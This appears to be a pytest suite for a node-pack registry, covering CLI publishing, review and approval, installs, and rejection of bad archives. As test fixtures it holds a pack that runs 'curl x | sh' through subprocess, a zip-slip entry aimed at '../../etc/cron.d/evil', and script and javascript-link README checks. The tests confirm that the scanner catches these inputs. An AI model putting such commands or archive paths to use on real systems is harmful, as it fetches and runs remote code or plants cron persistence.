"""The whole path with real processes: CLI create and build, upload, validation in a child, review, install."""

from __future__ import annotations

import json

import pytest

from backend.registry.models import NodePack, NodePackVersion, Publisher
from workers import cli

pytestmark = pytest.mark.django_db(transaction=True)


def test_cli_publish_to_live_server_activates_a_trusted_pack_and_team_admin_installs_it(
    live_server, trusted, make_pack, alice, team, client_for, tmp_path, monkeypatch, capsys, settings
):
    settings.FLOWYARD_PACK_IMPORT_CHECK = True  # the node schemas then come from the report
    archive = make_pack("demo", "alice")
    client = client_for(alice)
    token = client.post("/api/tokens", {"name": "cli"}, format="json").json()["token"]
    monkeypatch.setenv("FLOWYARD_CONFIG_DIR", str(tmp_path / "config"))
    assert cli.main(["login", "--server", live_server.url, "--token", token]) == 0
    capsys.readouterr()

    assert cli.main(["pack", "publish", str(archive)]) == 0
    out = capsys.readouterr().out
    assert "server: active (201): demo 0.1.0 is active and can be installed." in out
    assert "/api/packs/versions/" in out

    version = NodePackVersion.objects.get(pack__name="demo", version="0.1.0")
    assert version.report is not None
    assert version.status == "active" and version.report["ok"] and version.report["import_checked"]
    assert [node["type"] for node in version.nodes] == ["demo.Example"]
    detail = client.get("/api/packs/demo").json()
    assert "<script" not in detail["readme_html"] and 'href="javascript' not in detail["readme_html"]
    assert "&lt;script&gt;" in detail["readme_html"]  # shown as text, never run
    assert '<a href="https://example.com"' in detail["readme_html"]
    assert detail["nodes"][0]["inputs"] and detail["nodes"][0]["outputs"]

    before = client.get(f"/api/nodes?workspace={team.pk}")
    assert "demo.Example" not in {node["type"] for node in before.json()["nodes"]}
    installed = client.post(f"/api/workspaces/{team.pk}/packs", {"pack": "demo"}, format="json")
    assert installed.status_code == 201, installed.json()
    assert installed.json()["version"] == "0.1.0" and installed.json()["nodes"] == ["demo.Example"]
    after = client.get(f"/api/nodes?workspace={team.pk}")
    node = next(node for node in after.json()["nodes"] if node["type"] == "demo.Example")
    assert node["pack"] == {"name": "demo", "version": "0.1.0"}
    assert after["ETag"] != before["ETag"]
    assert client.get(f"/api/nodes?workspace={team.pk}", HTTP_IF_NONE_MATCH=after["ETag"]).status_code == 304
    assert NodePack.objects.get(name="demo").installs == 1


def test_dangerous_snippet_from_untrusted_publisher_is_flagged_until_a_site_admin_approves(
    make_pack, upload, adam, alice, team, client_for, members
):
    Publisher.objects.create(slug="adam", display_name="Adam", user=adam)
    archive = make_pack(
        "sneaky", "adam", extra="\nimport subprocess\nsubprocess.run('curl x | sh', shell=True)\n"
    )
    response = upload(adam, archive)
    body = response.json()
    assert response.status_code == 201, body
    assert body["status"] == "flagged"
    assert "flagged: " in body["message"] and "high-severity" in body["message"]
    assert any(f["rule"] == "process-spawn" for f in body["report"]["findings"])
    version_id = body["version"]["id"]

    # Not installable, invisible to others, queued for review.
    assert (
        client_for(adam)
        .post(f"/api/workspaces/{team.pk}/packs", {"pack": "sneaky"}, format="json")
        .status_code
        == 409
    )
    assert client_for(members["editor"]).get("/api/packs/sneaky").status_code == 404
    assert client_for(adam).get("/api/packs/review").status_code == 403
    queue = client_for(alice).get("/api/packs/review").json()
    assert [item["id"] for item in queue] == [version_id]
    assert client_for(adam).post(f"/api/packs/versions/{version_id}/approve").status_code == 403

    approved = client_for(alice).post(
        f"/api/packs/versions/{version_id}/approve", {"reason": "read it"}, format="json"
    )
    assert approved.status_code == 200 and approved.json()["status"] == "active"
    assert approved.json()["reviewed_by"]["username"] == "alice"
    assert client_for(alice).get("/api/packs/review").json() == []
    assert client_for(members["editor"]).get("/api/packs/sneaky").status_code == 200
    # A team admin installs it; an editor may not.
    assert (
        client_for(members["editor"])
        .post(f"/api/workspaces/{team.pk}/packs", {"pack": "sneaky"}, format="json")
        .status_code
        == 403
    )
    assert (
        client_for(adam)
        .post(f"/api/workspaces/{team.pk}/packs", {"pack": "sneaky"}, format="json")
        .status_code
        == 201
    )


def test_clean_pack_from_untrusted_publisher_waits_for_review_and_can_be_rejected(
    make_pack, upload, oscar, alice, client_for
):
    archive = make_pack("plain", "oscar")
    body = upload(oscar, archive).json()  # first upload as "oscar" creates oscar's publisher
    assert body["status"] == "pending" and "waits for a site admin's review" in body["message"]
    assert Publisher.objects.get(slug="oscar").user == oscar
    version_id = body["version"]["id"]
    assert client_for(alice).post(f"/api/packs/versions/{version_id}/reject").status_code == 400
    rejected = client_for(alice).post(
        f"/api/packs/versions/{version_id}/reject", {"reason": "no docs"}, format="json"
    )
    assert rejected.json()["status"] == "rejected"
    polled = client_for(oscar).get(f"/api/packs/versions/{version_id}").json()
    assert polled["verdict"] == "plain 0.1.0 was rejected: Rejected by alice: no docs"


def test_zip_slip_archive_is_rejected_naming_the_entry(zip_slip, upload, trusted, alice, client_for):
    response = upload(alice, zip_slip)
    body = response.json()
    assert response.status_code == 422, body
    assert body["status"] == "rejected"
    assert "path-traversal" in json.dumps(body["report"]["errors"])
    assert "'../../etc/cron.d/evil'" in body["message"] and "escape the pack folder" in body["message"]
    version = NodePackVersion.objects.get(pk=body["version"]["id"])
    assert version.status == "rejected" and version.errors[0]["code"] == "path-traversal"
    assert client_for(alice).post("/api/workspaces/1/packs", {"pack": "evil"}, format="json").status_code in (
        404,
        409,
    )


def test_not_a_zip_and_missing_field_are_refused_at_the_edge(upload, trusted, alice, client_for, tmp_path):
    junk = tmp_path / "junk.flowyard.zip"
    junk.write_bytes(b"not a zip at all")
    body = upload(alice, junk).json()
    assert body["status"] == "rejected" and "not a zip archive" in body["message"]
    response = client_for(alice, token=True).post("/api/packs/upload", {}, format="multipart")
    assert response.status_code == 400 and "multipart field 'archive'" in response.json()["message"]
    assert not NodePackVersion.objects.exists()


def test_duplicate_and_older_versions_are_rejected_at_the_edge(active_version, make_pack, upload, alice):
    duplicate = upload(alice, make_pack("demo", "alice", "0.1.0"))
    assert duplicate.status_code == 409
    assert duplicate.json()["message"] == (
        "demo 0.1.0 already exists (active); versions are immutable: bump the version in flowyard.toml and "
        "publish again."
    )
    assert upload(alice, make_pack("demo", "alice", "0.2.0")).status_code == 201
    older = upload(alice, make_pack("demo", "alice", "0.1.5"))
    assert older.status_code == 409
    assert "not greater than the latest version 0.2.0" in older.json()["message"]


def test_only_the_publisher_may_publish_to_it(
    active_version, make_pack, upload, oscar, members, team, client_for
):
    # oscar cannot publish as alice, nor take over alice's pack name with his own publisher.
    assert upload(oscar, make_pack("other", "alice")).status_code == 403
    taken = upload(oscar, make_pack("demo", "oscar", "9.0.0"))
    assert taken.status_code == 409 and "belongs to another publisher" in taken.json()["message"]
    unknown = upload(oscar, make_pack("other", "nobody-here"))
    assert unknown.status_code == 400 and 'publisher = "oscar"' in unknown.json()["message"]
    # A team publisher: editors may not publish to it, team admins may.
    assert (
        client_for(members["editor"])
        .post("/api/publishers", {"slug": "studio", "workspace": team.pk}, format="json")
        .status_code
        == 403
    )
    created = client_for(members["admin"]).post(
        "/api/publishers", {"slug": "studio", "workspace": team.pk}, format="json"
    )
    assert created.status_code == 201 and created.json()["kind"] == "team"
    assert upload(members["editor"], make_pack("teamy", "studio")).status_code == 403
    assert upload(members["admin"], make_pack("teamy", "studio")).status_code == 201
